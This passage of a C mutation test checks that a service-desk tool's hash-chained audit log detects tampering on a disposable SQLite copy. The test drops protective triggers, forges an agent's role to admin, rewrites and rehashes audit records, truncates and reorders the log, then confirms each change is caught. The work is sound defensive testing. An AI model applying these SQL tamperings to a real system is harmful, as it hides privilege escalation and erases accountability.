		char user[64];
		sqlite3_stmt *s;

		if (!cands)
			fail_msg("no agent to raise");
		snprintf(sql, sizeof(sql),
			 "SELECT seq, substr(entity, 6) FROM audit_log a WHERE entity LIKE 'user:%%' "
			 "AND seq = (SELECT max(seq) FROM audit_log b WHERE b.entity = a.entity) AND "
			 "change LIKE '%%\"role\":\"agent\"%%' ORDER BY seq LIMIT 1 OFFSET %zu",
			 pick(w, (size_t)cands));
		if (sqlite3_prepare_v2(db, sql, -1, &s, NULL) != SQLITE_OK ||
		    sqlite3_step(s) != SQLITE_ROW)
			fail_msg("forge: %s", sqlite3_errmsg(db));
		seq = sqlite3_column_int64(s, 0);
		snprintf(user, sizeof(user), "%s", sqlite3_column_text(s, 1));
		sqlite3_finalize(s);
		snprintf(sql, sizeof(sql),
			 "UPDATE users SET role = 'admin' WHERE username = '%s';"
			 "UPDATE audit_log SET change = replace(change, '\"role\":\"agent\"', "
			 "'\"role\":\"admin\"') WHERE seq = %lld",
			 user, (long long)seq);
		exec_ok(db, sql);
		rehash(db, seq);
		snprintf(what, len, "%s made admin with record %lld, chain and head rehashed", user,
			 (long long)seq);
		break;
	}
	case CH_TRUNC_HEAD:
	case CH_TRUNC: {
		int64_t cut = 1 + (int64_t)pick(w, 5);

		snprintf(sql, sizeof(sql), "DELETE FROM audit_log WHERE seq > %lld",
			 (long long)(n - cut));
		exec_ok(db, sql);
		if (k == CH_TRUNC_HEAD)
			set_head_to_end(db);
		snprintf(what, len, "last %lld records cut%s", (long long)cut,
			 k == CH_TRUNC_HEAD ? ", head set to match" : "");
		break;
	}
	case CH_REORDER: {
		int64_t a = 1 + (int64_t)pick(w, (size_t)n), b;

		do
			b = 1 + (int64_t)pick(w, (size_t)n);
		while (b == a);
		snprintf(sql, sizeof(sql),
			 "CREATE TEMP TABLE sw AS SELECT * FROM audit_log WHERE seq IN (%lld, %lld);"
			 "UPDATE audit_log SET (at, actor, action, entity, change, prev_hash, hash) = "
			 "(SELECT at, actor, action, entity, change, prev_hash, hash FROM sw WHERE "
			 "sw.seq = CASE audit_log.seq WHEN %lld THEN %lld ELSE %lld END) "
			 "WHERE seq IN (%lld, %lld); DROP TABLE sw",
			 (long long)a, (long long)b, (long long)a, (long long)b, (long long)a,
			 (long long)a, (long long)b);
		exec_ok(db, sql);
		snprintf(what, len, "records %lld and %lld swapped", (long long)a, (long long)b);
		break;
	}
	default:
		fail_msg("unknown chain kind %d", k);
	}
}

/* Put the populated store back into the copy, page by page, through the
 * tampering connection (SQLite's backup API): the store itsm holds open on
 * the copy sees the restored pages at its next read, as after any write of
 * another process. Cheaper than a new file and a new store per tampering. */
static void restore(struct world *w)
{
	sqlite3_backup *b = sqlite3_backup_init(w->tamper, "main", w->golden, "main");

	if (!b || sqlite3_backup_step(b, -1) != SQLITE_DONE || sqlite3_backup_finish(b) != SQLITE_OK)
		fail_msg("restoring the copy: %s", sqlite3_errmsg(w->tamper));
}

static void verify_copy(struct world *w, int kind, const char *what)
{
	struct audit_result r, alone;
	struct err e;

	err_clear(&e);
	if (audit_verify_anchored(w->st, w->cps, w->ncps, &r, &e))
		fail_msg("audit_verify after '%s': %s", what, e.msg);
	if (kind >= (int)(3 * N_TABLES) && audit_verify(w->st, &alone, &e))
		fail_msg("audit_verify after '%s': %s", what, e.msg);
	w->tally[kind].tried++;
	if (!r.ok) {
		w->tally[kind].detected++;
	} else {
		size_t used = strlen(w->missed);

		snprintf(w->missed + used, sizeof(w->missed) - used, "\n  undetected: %.300s", what);
	}
	if (kind >= (int)(3 * N_TABLES) && !alone.ok)
		w->tally[kind].alone++;
}

static void tamper_once(struct world *w, int kind, int n)
{
	static const char guards[] =
		"DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete;"
		"DROP TRIGGER ticket_ratings_frozen; DROP TRIGGER ticket_ratings_kept;"
		"DROP TRIGGER staff_careers_frozen; DROP TRIGGER staff_careers_kept;"
		"DROP TRIGGER staff_assessments_no_update; DROP TRIGGER staff_assessments_no_delete;";
	char what[1600];

	restore(w);
	exec_ok(w->tamper, guards);
	if (kind < (int)(3 * N_TABLES))
		row_tamper(w, w->tamper, kind, n, what, sizeof(what));
	else
		chain_tamper(w, w->tamper, (enum chain_kind)(kind - 3 * (int)N_TABLES), what,
			     sizeof(what));
	verify_copy(w, kind, what);
}

static void control(struct world *w, int i)
{
	struct audit_result r;
	struct err e;

	restore(w);
	err_clear(&e);
	if (audit_verify_anchored(w->st, w->cps, w->ncps, &r, &e))
		fail_msg("audit_verify: %s", e.msg);
	if (!r.ok || r.records != w->records)
		fail_msg("the restored copy does not verify before tampering %d: %lld %s", i,
			 (long long)r.first_bad, r.reason);
}

static const char *kind_name(int kind, char *buf, size_t n)
{
	static const char *const ops[] = { "edit", "delete", "insert" };

	if (kind >= (int)(3 * N_TABLES))
		return chain_names[kind - 3 * (int)N_TABLES];
	snprintf(buf, n, "%s %s", ops[kind / (int)N_TABLES], tables[kind % N_TABLES].name);
	return buf;
}

/* ---- the test ---- */

/* A command template "ping" whose program lies in a plugin directory of
 * the test's own (checks name templates; the program is never run here). */
static void install_ping(struct world *w)
{
	struct check_commands *set = check_commands_new();
	char plugin[200];
	FILE *f;
	struct err e;

	snprintf(w->plugins, sizeof(w->plugins), "%s/plugins", w->dir);
	snprintf(plugin, sizeof(plugin), "%s/check_ok", w->plugins);
	if (mkdir(w->plugins, 0755) || !(f = fopen(plugin, "w")))
		fail_msg("cannot make the plugin directory %s", w->plugins);
	fputs("#!/bin/sh\nexit 0\n", f);
	fclose(f);
	chmod(plugin, 0755);
	err_clear(&e);
	if (!set || check_commands_add(set, "ping", "check_ok -H $ARG1$", &e) ||
	    check_commands_resolve(set, w->plugins, &e))
		fail_msg("command template: %s", e.msg);
	check_commands_install(set);
}

static void build(struct world *w)
{
	struct audit_checkpoint cp;
	struct audit_result res;
	struct audit_key k;
	struct store *st;
	struct err e;

	err_clear(&e);
	if (!(st = store_open(w->db, 0, &e)))
		fail_msg("store_open: %s", e.msg);
	install_ping(w);
	populate(st);
	clock_set(-1);
	if (audit_key_generate(w->key, &k, &e) || audit_checkpoint_make(st, &k, &cp, &res, &e) ||
	    audit_checkpoint_append(w->cps_path, &cp, &e))
		fail_msg("checkpoint: %s", e.msg);
	audit_key_wipe(&k);
	w->records = res.records;
	store_close(st);
	if (audit_key_public(w->key, &k, &e) ||
	    audit_checkpoints_load(w->cps_path, &k, &w->cps, &w->ncps, &e))
		fail_msg("checkpoints: %s", e.msg);
	assert_int_equal(w->ncps, 1);
	if (sqlite3_open_v2(w->db, &w->golden, SQLITE_OPEN_READONLY, NULL) != SQLITE_OK ||
	    sqlite3_open_v2(w->work, &w->tamper, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE, NULL) !=
		    SQLITE_OK)
		fail_msg("cannot open the copies");
	exec_ok(w->tamper, "PRAGMA synchronous = OFF"); /* a copy thrown away: no fsync */
	restore(w);
	if (!(w->st = store_open(w->work, 0, &e)))
		fail_msg("store_open %s: %s", w->work, e.msg);
}

static void test_every_tampering_is_detected(void **state)
{
	struct world *w = *state;
	const char *env = getenv("ITSM_MUTATIONS");
	int total = env ? atoi(env) : 1200, missed = 0, tried = 0;
	struct timespec t0, t1;
	char name[64];

	env = getenv("ITSM_MUTATION_SEED");
	w->rng = env ? strtoull(env, NULL, 10) : 20260105;
	if (!w->rng)
		w->rng = 1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	build(w);

	/* The untouched copy verifies with the checkpoint. */
	{
		struct audit_result r;
		struct err e;

		err_clear(&e);
		assert_int_equal(audit_verify_anchored(w->st, w->cps, w->ncps, &r, &e), 0);
		if (!r.ok)
			fail_msg("the untouched store does not verify: %lld %s",
				 (long long)r.first_bad, r.reason);
		assert_int_equal(r.checkpoints_held, 1);
	}
	for (int i = 0; i < total; i++) {
		/* A control now and then: the copy restored and left alone must
		 * verify, or every "detected" below could be an earlier tampering
		 * that was never undone. */
		if (i % 50 == 0)
			control(w, i);
		tamper_once(w, i % (int)N_KINDS, i);
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);

	printf("audit mutation test: %d tamperings of a store of %lld audit records "
	       "(seed %s), %.1f s\n",
	       total, (long long)w->records, getenv("ITSM_MUTATION_SEED") ? getenv("ITSM_MUTATION_SEED") : "20260105",
	       (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
	printf("  %-44s %9s  %s\n", "kind", "detected", "without the checkpoint");
	for (int k = 0; k < (int)N_KINDS; k++) {
		struct tally *t = &w->tally[k];

		tried += t->tried;
		missed += t->tried - t->detected;
		if (k >= (int)(3 * N_TABLES))
			printf("  %-44s %4d/%-4d  %d/%d\n", kind_name(k, name, sizeof(name)),
			       t->detected, t->tried, t->alone, t->tried);
		else
			printf("  %-44s %4d/%-4d\n", kind_name(k, name, sizeof(name)), t->detected,
			       t->tried);
	}
	printf("  %-44s %4d/%-4d\n", "all", tried - missed, tried);
	fflush(stdout);
	assert_int_equal(tried, total);
	if (missed)
		fail_msg("%d of %d tamperings verified:%s", missed, tried, w->missed);
}

static int setup(void **state)
{
	struct world *w = calloc(1, sizeof(*w));

	if (!w || sodium_init() < 0)
		return -1;
	snprintf(w->dir, sizeof(w->dir), "/tmp/itsm-mutation-XXXXXX");
	if (!mkdtemp(w->dir))
		return -1;
	snprintf(w->db, sizeof(w->db), "%s/itsm.db", w->dir);
	snprintf(w->work, sizeof(w->work), "%s/work.db", w->dir);
	snprintf(w->key, sizeof(w->key), "%s/audit.key", w->dir);
	snprintf(w->cps_path, sizeof(w->cps_path), "%s/checkpoints.jsonl", w->dir);
	*state = w;
	return 0;
}

static int teardown(void **state)
{
	struct world *w = *state;
	static const char *const files[] = { "itsm.db",	 "itsm.db-wal", "itsm.db-shm",
					     "work.db",	 "work.db-wal", "work.db-shm",
					     "audit.key", "checkpoints.jsonl" };
	char p[160];

	if (w->st)
		store_close(w->st);
	w->st = NULL;
	sqlite3_close(w->tamper);
	w->tamper = NULL;
	sqlite3_close(w->golden);
	w->golden = NULL;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(p, sizeof(p), "%s/%s", w->dir, files[i]);
		unlink(p);
	}
	check_commands_install(NULL);
	snprintf(p, sizeof(p), "%s/check_ok", w->plugins);
	unlink(p);
	rmdir(w->plugins);
	rmdir(w->dir);
	free(w->cps);
	free(w);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_every_tampering_is_detected, setup, teardown),
	};

	log_threshold = LOG_WARN;
	return cmocka_run_group_tests(tests, NULL, NULL);
}
